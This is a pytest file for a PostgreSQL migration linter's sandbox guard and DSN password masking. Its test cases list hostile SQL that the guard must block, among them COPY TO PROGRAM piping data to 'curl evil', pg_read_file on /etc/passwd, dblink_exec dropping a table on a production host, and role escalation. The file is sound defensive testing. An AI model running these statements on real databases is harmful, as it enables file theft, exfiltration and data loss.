"""The sandbox's filter (which statements reach beyond the scratch database) and DSN masking,
without a server."""

from __future__ import annotations

import pytest
from psycopg.conninfo import conninfo_to_dict

from schemalint.discover.layouts.base import LoadEnv, prepare
from schemalint.discover.source import Migration
from schemalint.errors import UsageError
from schemalint.parse.statements import parse_migration
from schemalint.replay import dsn as dsn_backend
from schemalint.replay.mask import mask_dsn, mask_text
from schemalint.replay.sandbox import Guard, cluster_reach, connect_findings
from schemalint.replay.trace import StatementTrace


def _reach(sql: str, allowed=frozenset()) -> str | None:
    (stmt,) = parse_migration(Migration("m.sql", sql)).statements
    return cluster_reach(stmt.kind, stmt.node, frozenset(allowed))


@pytest.mark.parametrize("sql,why", [
    ("CREATE DATABASE other", "creates a database"),
    ("DROP DATABASE IF EXISTS precious WITH (FORCE)", "drops a database"),
    ("ALTER DATABASE precious RENAME TO stolen", "renames a database"),
    ("ALTER DATABASE precious SET work_mem = '1MB'", "sets a database's configuration"),
    ("ALTER DATABASE precious RESET ALL", "sets a database's configuration"),
    ("ALTER DATABASE precious CONNECTION LIMIT 0", "alters a database"),
    ("ALTER DATABASE precious OWNER TO app", "changes the owner of a database"),
    ("ALTER DATABASE precious REFRESH COLLATION VERSION", "alters a database"),
    ("ALTER SYSTEM SET work_mem = '77MB'", "postgresql.auto.conf"),
    ("ALTER SYSTEM RESET ALL", "postgresql.auto.conf"),
    ("CREATE ROLE app LOGIN", "creates a role"),
    ("CREATE USER app", "creates a role"),
    ("CREATE GROUP app", "creates a role"),
    ("ALTER ROLE app SUPERUSER", "alters a role"),
    ("ALTER USER app WITH PASSWORD 'x'", "alters a role"),
    ("ALTER ROLE app SET search_path = app", "sets a role's configuration"),
    ("ALTER ROLE app IN DATABASE precious SET work_mem = '1MB'", "sets a role's configuration"),
    ("ALTER ROLE ALL SET work_mem = '1MB'", "sets a role's configuration"),
    ("ALTER ROLE app RENAME TO other", "renames a role"),
    ("DROP ROLE IF EXISTS app", "drops a role"),
    ("DROP USER app", "drops a role"),
    ("GRANT app TO deployer", "changes role membership"),
    ("REVOKE app FROM deployer", "changes role membership"),
    ("REASSIGN OWNED BY app TO postgres", "reassigns"),
    ("DROP OWNED BY app", "revokes a role's privileges"),
    ("GRANT CONNECT ON DATABASE precious TO app", "privileges on a database"),
    ("REVOKE ALL ON DATABASE precious FROM PUBLIC", "privileges on a database"),
    ("GRANT CREATE ON TABLESPACE fast TO app", "privileges on a tablespace"),
    ("GRANT SET ON PARAMETER work_mem TO app", "privileges on a server parameter"),
    ("COMMENT ON DATABASE precious IS 'x'", "comments on a database"),
    ("COMMENT ON ROLE app IS 'x'", "comments on a role"),
    ("COMMENT ON TABLESPACE fast IS 'x'", "comments on a tablespace"),
    ("SECURITY LABEL ON ROLE app IS 'x'", "labels a role"),
    ("CREATE TABLESPACE fast LOCATION '/ssd'", "creates a tablespace"),
    ("DROP TABLESPACE fast", "drops a tablespace"),
    ("ALTER TABLESPACE fast SET (random_page_cost = 1)", "alters a tablespace"),
    ("ALTER TABLESPACE fast RENAME TO slow", "renames a tablespace"),
    ("ALTER TABLESPACE fast OWNER TO app", "changes the owner of a tablespace"),
    ("SET SESSION AUTHORIZATION postgres", "switches the session user to `postgres`"),
    ("SET ROLE postgres", "switches to role `postgres`"),
    ("SET LOCAL ROLE postgres", "switches to role `postgres`"),
    ("SET role = 'postgres'", "switches to role `postgres`"),
    ("COPY t TO PROGRAM 'curl evil'", "runs a program"),
    ("COPY t FROM PROGRAM 'cat /etc/passwd'", "runs a program"),
    ("COPY t FROM '/etc/passwd'", "reads a file on the database server"),
    ("COPY (SELECT 1) TO '/tmp/out'", "writes a file on the database server"),
    ("LOAD 'auto_explain'", "loads a shared library"),
    ("CHECKPOINT", "checkpoint"),
    ("CREATE SUBSCRIPTION s CONNECTION 'host=prod' PUBLICATION p", "subscribes"),
    ("ALTER SUBSCRIPTION s DISABLE", "subscription"),
    ("DROP SUBSCRIPTION s", "subscription"),
    ("ALTER SUBSCRIPTION s RENAME TO t", "renames a subscription"),
    ("IMPORT FOREIGN SCHEMA public FROM SERVER prod INTO local", "foreign server"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend"),
    ("SELECT pg_catalog.pg_cancel_backend(42)", "pg_cancel_backend"),
    ("SELECT pg_reload_conf()", "pg_reload_conf"),
    ("SELECT pg_read_file('/etc/passwd')", "reads the server's file system"),
    ("SELECT * FROM pg_ls_dir('.')", "reads the server's file system"),
    ("SELECT lo_import('/etc/passwd')", "lo_import"),
    ("SELECT lo_export(1234, '/tmp/x')", "writes the server's file system"),
    ("SELECT pg_file_write('x', 'y', false)", "writes the server's file system"),
    ("SELECT pg_switch_wal()", "write-ahead log"),
    ("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "replication slot"),
    ("SELECT pg_drop_replication_slot('s')", "replication slot"),
    ("SELECT pg_replication_origin_create('o')", "replication origin"),
    ("SELECT pg_stat_reset_shared('bgwriter')", "statistics"),
    ("SELECT dblink_exec('host=prod', 'DROP TABLE t')", "connects to another database"),
    ("SELECT * FROM dblink('host=prod', 'SELECT 1') AS t(a int)", "connects to another database"),
    ("SELECT set_config('role', 'postgres', false)", "changes the session's role"),
    ("INSERT INTO log SELECT pg_read_file('/etc/hostname')", "pg_read_file"),
    ("EXPLAIN ANALYZE SELECT pg_terminate_backend(1)", "pg_terminate_backend"),
    ("CREATE TABLE stolen AS SELECT pg_read_file('/etc/hostname') AS f", "pg_read_file"),
])
def test_statements_that_reach_beyond_the_database(sql, why):
    assert why in (_reach(sql) or "")


@pytest.mark.parametrize("sql", [
    "CREATE TABLE t (id int PRIMARY KEY)",
    "ALTER TABLE t ADD COLUMN c text",
    "CREATE INDEX CONCURRENTLY i ON t (id)",
    "GRANT SELECT ON t TO app",
    "REVOKE ALL ON ALL TABLES IN SCHEMA public FROM PUBLIC",
    "ALTER DEFAULT PRIVILEGES FOR ROLE app GRANT SELECT ON TABLES TO reader",
    "ALTER TABLE t OWNER TO app",
    "COMMENT ON TABLE t IS 'x'",
    "CREATE SCHEMA s AUTHORIZATION app",
    "CREATE EXTENSION IF NOT EXISTS pgcrypto",
    "CREATE PUBLICATION p FOR TABLE t",
    "COPY t FROM STDIN",
    "COPY t TO STDOUT",
    "SET lock_timeout = '2s'",
    "SET search_path = app, public",
    "RESET ROLE",
    "SET ROLE NONE",
    "RESET SESSION AUTHORIZATION",
    "RESET ALL",
    "SELECT now(), pg_sleep(0), pg_advisory_lock(1), set_config('search_path', 'x', false)",
    "SELECT pg_notify('c', 'x')",
    "VACUUM ANALYZE t",
    "REINDEX TABLE t",
    # Stored for later, not run now: views, functions, rules, triggers, policies.
    "CREATE VIEW v AS SELECT pg_read_file('/etc/hostname')",
    "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT pg_reload_conf() $$",
    "CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('x'); END",
    "CREATE POLICY p ON t USING (pg_has_role('app', 'member'))",
    # Dynamic SQL is not inspected: it runs as the scratch role, which PostgreSQL confines.
    "DO $$ BEGIN EXECUTE 'CREATE ROLE x'; END $$",
])
def test_statements_that_stay_in_the_database(sql):
    assert _reach(sql) is None


def test_set_role_to_a_role_replay_created_is_sent():
    assert _reach("SET ROLE app_owner", {"app_owner"}) is None
    assert _reach("SELECT set_config('role', 'app_owner', true)", {"app_owner"}) is None
    assert "`postgres`" in _reach("SET ROLE postgres", {"app_owner"})


def test_guard_marks_the_trace_and_reports_each_statement_once():
    migration = Migration("m.sql", "CREATE TABLE t (id int);\nDROP DATABASE precious;\n")
    guard = Guard()
    statements = parse_migration(migration).statements
    sent = []
    for _ in range(2):  # --roundtrip applies an up migration twice
        for stmt in statements:
            trace = StatementTrace(migration=migration, start=stmt.start, end=stmt.end,
                                   line=migration.lines.position(stmt.start)[0], sql=stmt.sql,
                                   kind=stmt.kind)
            if not guard(stmt, trace):
                sent.append(stmt.kind)
            else:
                assert trace.status == "skipped"
    assert sent == ["CreateStmt", "CreateStmt"]
    (finding,) = guard.findings()
    assert (finding.rule, finding.line, finding.source) == ("replay-skipped-cluster-statement", 2, "replay")
    assert finding.message.startswith("not sent to the server: `DROP DATABASE precious` drops a database")


def test_connect_meta_commands_are_reported_where_psql_would_follow_them(tmp_path):
    text = ("CREATE TABLE t (id int);\n\\connect other\nCREATE FUNCTION f() RETURNS text "
            "LANGUAGE sql AS $$\n\\c not_a_meta_command\n$$;\n  \\c\n")
    (migration,) = prepare(str(tmp_path / "m.sql"), text, LoadEnv())
    statements = parse_migration(migration).statements
    found = connect_findings(migration, statements)
    assert [(d.line, d.message) for d in found] == [
        (2, "`\\connect other` not followed: psql would connect to database `other`; replay "
            "runs the whole file in its scratch database"),
        (6, "`\\c` not followed: psql would connect to the same database anew; replay runs the "
            "whole file in its scratch database")]
    assert connect_findings(Migration("m.sql", "SELECT 1;"), []) == []


# --- masking -------------------------------------------------------------------------------

@pytest.mark.parametrize("dsn,shown", [
    ("postgresql://app:s3cret@db:5432/prod", "postgresql://app:***@db:5432/prod"),
    ("host=db user=app password=s3cret dbname=prod", "host=db user=app password=*** dbname=prod"),
    ("host=db password='se cret' dbname=prod", "host=db password=*** dbname=prod"),
    ("postgresql://db/prod?user=app&password=s3cret", "postgresql://db/prod?user=app&password=***"),
    # Malformed: a raw '@' (libpq cuts at the first and takes `ss@host` for the host).
    ("postgresql://u:p@ss@host/db", "postgresql://u:***@host/db"),
    ("postgres://u:p/s@ss@host:5432/db?sslmode=require", "postgres://u:***@host:5432/db?sslmode=require"),
    ("postgresql://u:p ss@host/db", "postgresql://u:***@host/db"),
    ("host=db password=abc def user=app", "host=db password=*** user=app"),
    ("host=db password='unterminated dbname=x", "host=db password=***"),
    ("host=db PASSWORD = s3cret", "host=db PASSWORD = ***"),
    ("host=db dbname=x", "host=db dbname=x"),
    ("postgresql://u@host/db", "postgresql://u@host/db"),
])
def test_mask_dsn(dsn, shown):
    assert mask_dsn(dsn) == shown


@pytest.mark.parametrize("dsn,secret", [
    ("postgresql://u:pass word@host/db", "pass word"),
    ("postgresql://u:p%zzsecret@host/db", "zzsecret"),
    ("postgresql://u:hunter2@[::1/db", "hunter2"),
    ("postgresql://db/x?password=a b&user=u", "a b"),
    ("host=x password=abc defsecret", "defsecret"),
    ("host=x password='abc defsecret", "defsecret"),
])
def test_malformed_dsn_errors_never_show_the_password(dsn, secret):
    with pytest.raises(UsageError) as info:
        dsn_backend._parse(dsn)
    assert secret not in str(info.value), str(info.value)


def test_messages_are_masked_with_the_dsns_passwords():
    dsn = "postgresql://u:p@ss@host/db"
    host = conninfo_to_dict(dsn)["host"]  # libpq's reading: the host is "ss@host"
    message = f'could not translate host name "{host}" to address: Name or service not known'
    assert mask_text(message, dsn) == 'could not translate host name "***" to address: Name or service not known'
    assert mask_text("password=s3cret host=x", None) == "password=*** host=x"
    assert mask_text("connecting to postgresql://a:b@c/d", None) == "connecting to postgresql://a:***@c/d"


def test_set_session_authorization_is_never_sent():
    # Only a superuser session may; the scratch role never is one.
    assert "session user" in _reach("SET SESSION AUTHORIZATION app_owner", {"app_owner"})
    assert _reach("SELECT set_config('session_authorization', 'app_owner', false)", {"app_owner"})
